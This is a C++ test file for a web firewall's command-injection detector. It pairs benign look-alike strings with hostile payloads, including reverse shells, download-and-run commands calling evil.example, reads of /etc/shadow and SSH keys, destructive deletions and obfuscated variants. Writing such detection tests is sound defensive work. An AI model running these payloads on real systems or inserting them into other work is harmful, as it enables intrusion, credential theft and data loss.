#include "detect/analyze/shell/cmd_injection.h"

#include <gtest/gtest.h>

#include "detect/core/octets.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

struct Row {
  const char* text;
  const char* verdict;
};

constexpr Row kAttacks[] = {
    // cmd.exe's switches in the word of its command; numbers in place of words; programs by their paths
    {"127.0.0.1&dir/s c:\\", "low"},
    {"1|dir/b/s", "balanced"},
    {"1&del/q c:\\temp\\x", "low"},
    {"a@b.c&&echo $((1337*3))", "balanced"},
    {"1;expr 268409241 - 2", "balanced"},
    {"x&timeout /t 5", "balanced"},
    {"1|ps aux|", "balanced"},
    {"x;ls env:", "low"},
    {"x;powershell Get-Process", "low"},
    {"1;/bin/busybox MIRAI", "balanced"},
    {"127.0.0.1;cat /etc/passwd", "low"},
    {"127.0.0.1 && cat /etc/hosts", "low"},
    {"x | curl http://evil.example/a.sh", "low"},
    {"1||ping -c 4 10.0.0.7||", "low"},
    {"a;wget evil.example/x -O /tmp/x", "low"},
    {"$(curl evil.example)", "low"},
    {"`nslookup evil.example`", "low"},
    {"\n/bin/cat /etc/shadow", "low"},
    {"x|bash -i", "balanced"},
    {"a;rm -rf /var/www", "low"},
    {"1;echo aWQ=|base64 -d|sh", "low"},
    {"'; ls -la /home #", "low"},
    {"\"; uname -a; \"", "low"},
    {"1 & type c:\\windows\\win.ini", "low"},
    {"x|cmd /c dir", "low"},
    {"127.0.0.1;whoami", "balanced"},
    {"127.0.0.1 | id", "balanced"},
    {"|ls", "balanced"},
    {"10.0.0.1%0a|pwd", "balanced"},
    {"$(id)", "balanced"},
    {"`id`", "balanced"},
    {"a.txt;sleep 10", "balanced"},
    {"<(cat secret)", "balanced"},
    {"${`id`}", "balanced"},
    {";weirdtool --version", "balanced"},
    {"f;a=x;$a /etc/passwd", "balanced"},
    {"sort|id", "strict"},
    {"cat /etc/passwd", "balanced"},
    {"wget http://evil.example/x.sh", "balanced"},
    {"bash -c id", "balanced"},
    {"ping -c 3 evil.example", "balanced"},
    {"powershell -enc SQBFAFgA", "balanced"},
    {"cmd.exe /c whoami", "balanced"},
    {"strace ifconfig", "balanced"},
    {"Invoke-WebRequest http://evil.example/a.ps1", "balanced"},
    // Arguments by the tool's own words, groups, input, programs by their folder
    {"& net user", "balanced"},
    {"8.8.8.8 & net localgroup administrators", "balanced"},
    {"|reg query HKLM", "balanced"},
    {"10.0.0.7;ip addr", "balanced"},
    {";apt install nmap", "balanced"},
    {";mv a b", "balanced"},
    {";(id)", "balanced"},
    {"127.0.0.1;(whoami)", "balanced"},
    {"10.0.0.7||(id)", "balanced"},
    {";{ id;}", "balanced"},
    {"x;cat<file", "balanced"},
    {";cat *", "balanced"},
    {";./x", "balanced"},
    {"; /tmp/.x/miner -o pool", "balanced"},
    {"whoami", "strict"},
    {"whoami\r\n", "strict"},
    {"& dir c:\\", "low"},
    // Disguises
    {"x;c'a't /etc/passwd", "low"},
    {"x;wh``oami", "balanced"},
    {"x;who$@ami", "balanced"},
    {"cat$IFS/etc/passwd", "balanced"},
    {"x;cat${IFS}a.txt", "balanced"},
    {"/?"
     "?"
     "?/c?t /etc/hosts",
     "balanced"},
    {"x;/bin/c[a]t a", "balanced"},
    {"${PATH:0:1}etc", "balanced"},
    {"$'\\x77\\x68oami' -x", "balanced"},
    {"x&w^h^o^a^m^i", "balanced"},
    // Fixed shapes
    {"() { :;}; /bin/ping x", "low"},
    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "low"},
    {"exec 5<>/dev/tcp/evil.example/80", "low"},
    {"id > shell.php", "balanced"},
    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "low"},
    {"%COMSPEC% /c dir", "balanced"},
    {"for /f %i in (a.txt) do echo %i", "balanced"},
    {"if not exist c:\\x.txt (del y)", "balanced"},
    {"IF /I \"%var%\"==\"x\" ( ECHO found )", "balanced"},
    {"f(){ f|f& };f", "balanced"},
    {"deploy() { rm x; }; deploy", "balanced"},
    {"() {", "low"},
    {"alias ll=curl", "balanced"},
    {"alias -g x=id", "balanced"},
    {"{,ifconfig}", "balanced"},
    {"{cat,/etc/passwd}", "balanced"},
    {"{id,}", "balanced"},
    {"x;{wget,http://203.0.113.9/x,-O,/tmp/x}", "balanced"},
    {"x;`cat<<<ifconfig`", "low"},
    {"pi<()ng 127.0.0.1", "balanced"},
    {"a=nc&&$a -nlvp 555", "balanced"},
    {"d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", "low"},
    {"x;$_at /et$_c/pas$_swd", "balanced"},
    {"/usr/bin/id", "balanced"},
    {"bin/bash", "balanced"},
    {"c:\\windows\\system32\\cmd.exe", "balanced"},
    {"nohup id", "balanced"},
    {"time who", "strict"},
    {"gcc-12 --version", "balanced"},
    {"x;python3.11 -c 1", "low"},
    {"git --version", "strict"},
    {"npm i --save-dev x@^1.2", "strict"},
    {"docker run -it --rm x", "strict"},
    {"sudo apt-get install -y nginx", "strict"},
    {"7;git --version", "balanced"},
    {"7|npm i --save-dev x", "balanced"},
    {"x && docker ps -a", "balanced"},
    {"gcc -wrapper sh,-c,id .", "balanced"},
    {"bash -c id", "balanced"},
    {"find / -perm -4000", "balanced"},
    {"x & cat /etc/passwd", "low"},
    {"x & ls /", "low"},
    {"|id|", "balanced"},
    {"| id", "balanced"},
    {"strace -o x curl", "balanced"},
    {"ls -la", "balanced"},
    {"cat /srv/x/y.gz", "balanced"},
    {"cat /et*/*wd", "balanced"},
    {"ansible-playbook site.yml", "balanced"},
    {"ansible-vault decrypt secret", "strict"},
    {"visudo", "strict"},
    {"x&bcdboot /r file", "low"},
    {"Get-ChildItem -Path c:\\", "balanced"},
    {"[Convert]::FromBase64String('aQ==')", "balanced"},
    {".shell id", "balanced"},
    {"1;\n.system id", "balanced"},
    {"\\! id", "balanced"},
    {">/tmp/x", "balanced"},
    {"$((1+1))", "strict"},
    {"!!", "strict"},
    {"~-1", "strict"},
    {"\r\nMAIL FROM:<a@mail.example>", "balanced"},
    {"\r\na001 EXAMINE INBOX", "balanced"},
    {"\r\nRETR 12", "balanced"},
    {"\r\nQUIT", "strict"},
    // The shell itself, files in the place of a substitution or behind <
    {";$0<<<id", "low"},
    {"$0<<<id", "balanced"},
    {"$(</etc/passwd)", "balanced"},
    {"x`</etc/hosts`", "balanced"},
    {"cat</etc/passwd", "balanced"},
    {"x;cat<a.txt", "balanced"},
    {"x|cat</srv/x", "low"},
    {"x;sh</tmp/x", "low"},
    {"x;sh<../up/x", "low"},
    {"x;cat</e*c/pass*", "low"},
    {"x;ls ../..", "low"},
    {"x;ls /", "low"},
    {"x;ls / #", "low"},
    {"x;find / #", "low"},
    {"x & find / #", "low"},
    {"x;id -$u", "balanced"},
    {"^w^h^o^a^m^i", "balanced"},
    {"a;id;b", "balanced"},
    {"x|ls", "balanced"},
    {"\"&calc&\"", "balanced"},
    {"wmic process call create calc", "balanced"},
    {"netsh advfirewall set allprofiles state off", "balanced"},
    {"vssadmin delete shadows", "balanced"},
    {"&(gcm *ke-e*) x", "balanced"},
    {".(gal i*x) $x", "balanced"},
    {"& ('who' + \"ami\")", "balanced"},
    // Behind a tool's line what looks around still counts
    {"git log; whoami", "balanced"},
    {"git log | nc -e /bin/sh 203.0.113.9 80", "low"},
    {"docker ps && cat /etc/shadow", "low"},
    {"npm test; head -n 1 ~/.ssh/id_rsa", "low"},
    {"1\n2\n3\n4; cat /etc/passwd", "low"},
    // Options by which tools run programs
    {"--use-compress-program=id", "balanced"},
    {"--checkpoint=1 --checkpoint-action=exec=sh x.sh", "balanced"},
    {"-oProxyCommand=id", "balanced"},
    {"-o ProxyCommand=id x", "balanced"},
    {"ssh://-oProxyCommand=id/x", "balanced"},
    {"--upload-pack=id", "balanced"},
    {"--receive-pack=\"sh x\"", "balanced"},
    {"-c core.sshCommand=id", "balanced"},
    {"--config=alias.clone=!id", "balanced"},
    {"--open-files-in-pager=id", "balanced"},
    {"-exec id ;", "balanced"},
    {"-execdir /bin/sh -c x ;", "balanced"},
    {"--rsh='sh -c id'", "balanced"},
    {"-d auto_prepend_file=php://input", "balanced"},
    {"-dallow_url_include=1 -dauto_prepend_file=php://input", "balanced"},
    {"-OQueueDirectory=/tmp -X/var/www/x.php", "balanced"},
    {"-be -X/var/www/html/a.php", "balanced"},
    {"-XX:OnError=id", "balanced"},
    {"-javaagent:/tmp/x.jar", "balanced"},
    {"-sOutputFile=%pipe%id", "balanced"},
    {"--gpu-launcher=calc", "balanced"},
    {"--pager=/bin/sh", "balanced"},
};

constexpr Row kBenign[] = {
    {"Uncaught Error: x at Object.eval (eval at <anonymous> (main.js:1))", "-"},
    {"Server **down**! `curl -I https://a.example` -> 502", "-"},
    {"Read usr/a; see dir/s for more", "-"},
    {"/api/ping", "-"},
    {"yes; 2 or 3", "-"},
    {"fish & net user groups", "-"},
    {"& net income of 2023", "-"},
    {"a net user of services", "-"},
    {"(x|(id))", "-"},
    {"^(a|(date))$", "-"},
    {"dog;cat<br>more", "-"},
    {"<h2>body & head</h2><ul><li>a</li></ul><p><img src=\"/uploads/a.jpg\" width=\"300\" /></p>", "-"},
    {"python -snake", "strict"},
    {"make && make test && sudo make install", "strict"},
    {"PS C:\\> Get-ChildItem -Recurse | Where-Object {$_.Length -gt 5MB}", "strict"},
    {"red;cat<b>bold</b>", "-"},
    {"R&D | sales; ls", "-"},
    {"cat & dog", "-"},
    {"dog & cat", "-"},
    {"salt & pepper; bread | butter", "-"},
    {"Tom && Jerry", "-"},
    {"rock'n'roll", "-"},
    {"I don't know if it's ok; find out more about us", "-"},
    {"a < b && c > d", "-"},
    {"AT&T", "-"},
    {"name;id;date", "-"},
    {"price > 100 | sort by name", "-"},
    {"text/html; charset=utf-8", "-"},
    {"&lt;id&gt; is &quot;x&quot;", "-"},
    {"https://shop.example/?a=b;c=d&id=5", "-"},
    {"$(document).ready", "-"},
    {"$(this).find('a')", "-"},
    {"Hello ${name}", "-"},
    {"It costs $5; more or less", "-"},
    {"C:\\Users\\tom\\Documents\\file.txt", "-"},
    {"Use `ls` to list files and `cat` to read them.", "-"},
    {"at sunrise; echo of the past", "-"},
    {"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "-"},
    {"curl/7.88.1", "-"},
    {"HEAD /blog/index.html", "-"},
    {"GET https://shop.example/a", "-"},
    {"Wget/1.21.3", "-"},
    {"host: example; type: text", "-"},
    {"function(){return a||b;}", "-"},
    {"if (x) { print(y); }", "-"},
    {"Error\n    at foo (a.js:1:2)\n    at bar (b.js:3:4)\n    at baz", "-"},
    {"() => { return 1; }", "-"},
    {"{\"id\":1,\"date\":\"2024-01-01\",\"type\":\"x;y\"}", "-"},
    {"find the best price", "-"},
    {"sort -- not sorted", "-"},
    {"time to go", "-"},
    {"java", "-"},
    {"more info", "-"},
    {"Вопрос: кто там; что делать", "-"},
    {"猫 & 犬; 鳥 | 魚", "-"},
    {"if not today then tomorrow", "-"},
    {"for %s in the list", "-"},
    {"SGVsbG8=;base64,AAAA", "-"},
    {"R&D; sales", "-"},
    {"cat food", "-"},
    {"price $5", "-"},
    {"a|b", "-"},
    {"session=abc; id=5; date=today", "-"},
    {"a{color:red;top:0;left:1px}", "-"},
    {"{id,name,date}", "-"},
    {"{id: http://shop.example/, name: x}", "-"},
    {"query { user(id: 1) { id name } }", "-"},
    {"2024-01-01 10:00:00 GET /path?id=1&sort=date 200", "-"},
    {"Wall Street; more or less", "-"},
    {"python 3 tutorial", "-"},
    {"head of sales", "-"},
    {"find x for y", "-"},
    {"the alias \"pineapple\" online", "-"},
    {"const f = () => { return 1; }", "-"},
    {"function a() { return b; } a.c", "-"},
    {"First line\nlist of things\nuser story\n", "-"},
    {"12 top songs\n10 more", "-"},
    {"see ./a/b and ../c", "-"},
    {"I use `git` and (id) here", "-"},
    {"(type) or (file)", "-"},
    {"https://shop.example/a?x=1&id&sort", "-"},
    {"Hello!! ~ 5", "-"},
    {"5 > 3", "-"},
    {"~tom", "-"},
    {"The date; the time; the host", "-"},
    {"get-started", "-"},
    {"git commit -m \"exec load\"", "-"},
    {"git commit -m exec load", "-"},
    {"pip install --upgrade pip", "-"},
    {"yarn add --dev eslint", "-"},
    {"cargo build --release", "-"},
    {"kubectl get pods -n web", "-"},
    {"make -j4 all", "-"},
    {"Bash and Curl v. Test", "-"},
    {"Script and Ping v. Byte", "-"},
    {"Bash bar w/ Cat food", "-"},
    {"Echo dot & Cat tree set / \"Midnight\"", "-"},
    {"Tail light & More milk set / #ff8800", "-"},
    {"Perl earrings & Python snake toy set / noir", "-"},
    {"Cat food; dog food 1/2\" x 5' 5\"", "-"},
    {"78x Cat food; dog food @ $999.24 each = €48,44", "-"},
    {"tablet 10\" set / off-white", "-"},
    {"| name | id |\n|---|---|\n| 7 | 6 |", "-"},
    {"| path | node |", "-"},
    {"-----\nBash & Sons\nSort box", "-"},
    {"content-type: text/html", "-"},
    // Dashes, angle brackets, ampersands that are none of a shell's
    {"-- exec summary", "-"},
    {"--verbose", "-"},
    {"-5 degrees", "-"},
    {"-x", "-"},
    {"--pager", "-"},
    {"--filter=blue", "-"},
    {"--require=all", "-"},
    {"-o output.txt", "-"},
    {"-d name=Tom", "-"},
    {"-c red=1", "-"},
    {"--exec=yes", "-"},
    {"-- \nTom", "-"},
    {"-run, jump and swim", "-"},
    {"my cat</b> and <i>dog</i>", "-"},
    {"x;cat</td><td>7", "-"},
    {"eval && exec || curl -_-;", "-"},
    {"insert && drop || kill </3", "-"},
    {"insert && execute || sleep <3", "-"},
    {"wait for && sort || kill </3!", "-"},
    {"insert && order || kill <33", "-"},
    {"print && curl || touch -.-", "-"},
    {"find && sort || print ._.", "-"},
    {"drop && select || kill :/", "-"},
    {"wait && wait || kill ...", "-"},
    {"find && drop || kill \\o/", "-"},
    {"curl && sort || print ://", "-"},
    {"Screw M6*40 & Tablet 10.1\" set / #ff8800", "-"},
    {"$(<div>)", "-"},
    {"Q&A (more) & B&B (\"sea view\")", "-"},
    {"a.b (\"id\")", "-"},
    {"calc(100% - 2px); top:0", "-"},
    {"R&D; S&P", "-"},
    {"a;b", "-"},
    {"ab;id;cd", "-"},
    {"^id$", "-"},
    {"2^10", "-"},
};

TEST(CmdInjection, Attacks) {
  const auto analyzer = make_cmd_injection_analyzer();
  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(*analyzer, row.text), row.verdict) << row.text;
}

TEST(CmdInjection, BenignTextPassesAtBalanced) {
  const auto analyzer = make_cmd_injection_analyzer();
  for (const Row& row : kBenign)
    EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, row.text))) << row.text;
}

TEST(CmdInjection, DocumentationIsNotDeniedAtBalanced) {
  const auto analyzer = make_cmd_injection_analyzer();
  const std::string_view text =
      "## Install\n\nFirst update the package list and install the server:\n\n    sudo apt-get update\n"
      "    sudo apt-get install -y nginx\n\nThen run `systemctl restart nginx` and open the page in a "
      "browser.\n"
      "To see the log, use `tail -f error.log | grep -i warn`, or look at it with less.\n";
  EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, text, Location::kBody)));
}

TEST(CmdInjection, FileContentIsNotItsBusiness) {
  const auto analyzer = make_cmd_injection_analyzer();
  EXPECT_EQ(verdict_of(*analyzer, "x;cat /etc/passwd", Location::kFile), "-");
  EXPECT_EQ(verdict_of(*analyzer, "x;cat /etc/passwd", Location::kFile, true), "low");
}

TEST(CmdInjection, VariationsStayDenied) {
  const auto analyzer = make_cmd_injection_analyzer();
  std::size_t made = 0;
  for (const char* prefix : {"", "1", "127.0.0.1", "a.txt", "x'", "x\"", "-1"}) {
    for (const char* op : {";", "|", "||", "&&", "&", "\n", " ; ", "|  ", "\n\t"}) {
      for (const char* command : {"cat /etc/passwd", "c\"\"at /etc/passwd", "ca\\t /etc/passwd",
                                  "/bin/cat /etc/passwd", "curl http://evil.example/", "whoami", "who''ami",
                                  "ping -n 3 10.1.1.1", "nc -e /bin/sh 10.1.1.1 99", "head${IFS}/etc/shadow",
                                  "python3 -c 'import os'", "ls -la", "sudo id -u", "{cat,/etc/passwd}"}) {
        for (const char* suffix : {"", " #", ";", "||x", "\n", " & "}) {
          const std::string text = std::string(prefix) + op + command + suffix;
          if (std::string_view(command).starts_with("{")) continue;  // brace lists are a decoder's work
          EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
          ++made;
        }
      }
    }
  }
  EXPECT_GT(made, 4000u);
}

// The same command in other spellings that its shell reads alike.
TEST(CmdInjection, OtherSpellingsStayDenied) {
  const auto analyzer = make_cmd_injection_analyzer();
  constexpr const char* kOperators[] = {";", "|", "&&", "\n", "$("};
  constexpr const char* kNames[] = {"cat", "head", "curl", "wget", "uname", "python", "base64", "ifconfig"};
  constexpr const char* kHiding[] = {"''", "\"\"", "\\", "$@", "$*", "``", "${x}", "$()", "^", "<()"};
  constexpr const char* kSpaces[] = {" ", "\t", "  ", "${IFS}", "$IFS"};
  constexpr const char* kArguments[] = {"/etc/passwd", "-x /etc/hosts", "/etc/p''asswd", "/e*c/passwd"};
  Dice dice(3);
  std::size_t made = 0;
  for (const char* name : kNames) {
    for (const char* hidden : kHiding) {
      for (const char* space : kSpaces) {
        for (const char* argument : kArguments) {
          std::string word = name;
          word.insert(1 + dice.roll(word.size() - 1), hidden);
          const char* op = kOperators[dice.roll(std::size(kOperators))];
          const std::string text = std::string("1") + op + word + space + argument;
          EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
          ++made;
        }
      }
    }
  }
  EXPECT_EQ(made, 8u * 10 * 5 * 4);
}

TEST(CmdInjection, CmdExeReadsWithoutCaseAndThroughCarets) {
  const auto analyzer = make_cmd_injection_analyzer();
  std::size_t made = 0;
  for (const std::string name :
       {"ipconfig", "systeminfo", "tasklist", "certutil", "powershell", "schtasks"}) {
    for (const char* op : {"&", "|", "&&", "||", " & "}) {
      for (std::size_t at = 1; at < name.size(); ++at) {
        std::string word = name;
        word[at] = static_cast<char>(word[at] - 32);
        word.insert(at, "^");
        const std::string text = "x" + std::string(op) + word + " /c c:\\x";
        EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
        ++made;
      }
    }
  }
  EXPECT_EQ(made, 5u * (7 + 9 + 7 + 7 + 9 + 7));
}

TEST(CmdInjection, NamesOfFieldsAreNotCommandLines) {
  const auto analyzer = make_cmd_injection_analyzer();
  EXPECT_EQ(verdict_of(*analyzer, "whoami", Location::kQuery, true), "-");
  EXPECT_EQ(verdict_of(*analyzer, ";whoami", Location::kQuery, true), "balanced");
  EXPECT_EQ(verdict_of(*analyzer, "/bin/ping", Location::kUrlPath), "-");
}

}  // namespace
}  // namespace wafd::detect
